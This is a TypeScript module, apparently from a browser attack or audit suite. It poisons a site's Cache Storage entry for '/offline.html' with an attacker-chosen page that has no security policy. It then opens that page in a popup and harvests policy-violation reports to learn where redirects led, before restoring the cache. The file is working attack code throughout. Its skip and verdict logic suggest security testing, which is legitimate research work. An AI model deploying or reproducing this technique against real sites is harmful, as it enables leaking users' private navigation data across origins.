import { attempt, noteOnSession, skipped, verdict, within } from './attack.ts'
import type { AttackContext, AttackResult } from './attack.ts'
import { reportsInDocument } from './csp-report-leak.ts'
import { describePlaces, Loot } from './own-flow.ts'

const PATH = '/offline.html'

/**
 * The app's worker serves a page from a cache that any script of the origin can write to, with the headers that the script
 * chooses: a document of this origin without a policy. There the browser can be made to report where a redirect led.
 */
export async function documentWithoutPolicy(context: AttackContext): Promise<AttackResult> {
  const loot = new Loot()
  const notes: string[] = [...noteOnSession(context)]
  const restore = await replaceInCaches(PATH)
  if (restore === undefined) return skipped(`No cache of this origin holds ${PATH}.`)
  // Before anything is awaited again the click would have to be used; browsers allow some seconds.
  const popup = window.open(PATH, '', 'popup,width=300,height=300')
  try {
    if (popup === null) return skipped('The browser did not open a popup.')
    await within(
      3000,
      new Promise((resolve) => popup.addEventListener('load', resolve, { once: true })),
    )
    const host = attempt(() => popup.document)
    if (!host?.body) return skipped('The popup could not be read.')
    const reports = await reportsInDocument(context, loot, host, 'page without a policy')
    notes.push(`${reports} policy violations were reported in a page that came without headers.`)
    notes.push(describePlaces(loot, 'Frames in that page'))
  } finally {
    popup?.close()
    await restore()
  }
  return verdict(loot.found, notes)
}

/** Puts a page of the attacker's in place of a cached one. @returns what puts the old one back */
async function replaceInCaches(path: string): Promise<(() => Promise<void>) | undefined> {
  const replaced: (() => Promise<void>)[] = []
  const own = (await fetch(location.href)).headers.get('cross-origin-opener-policy')
  // The same policy as this page's, so that the browser keeps the two windows together.
  const opener = own === null ? {} : { 'cross-origin-opener-policy': own }
  const headers = { 'content-type': 'text/html', ...opener }
  for (const name of await caches.keys()) {
    const cache = await caches.open(name)
    for (const request of await cache.keys()) {
      if (new URL(request.url).pathname !== path) continue
      const original = await cache.match(request)
      const page = '<!doctype html><title>mine</title><body></body>'
      await cache.put(request, new Response(page, { headers }))
      replaced.push(async () => (original ? cache.put(request, original) : undefined))
    }
  }
  if (replaced.length === 0) return undefined
  return async () => void (await Promise.all(replaced.map(async (put) => put())))
}
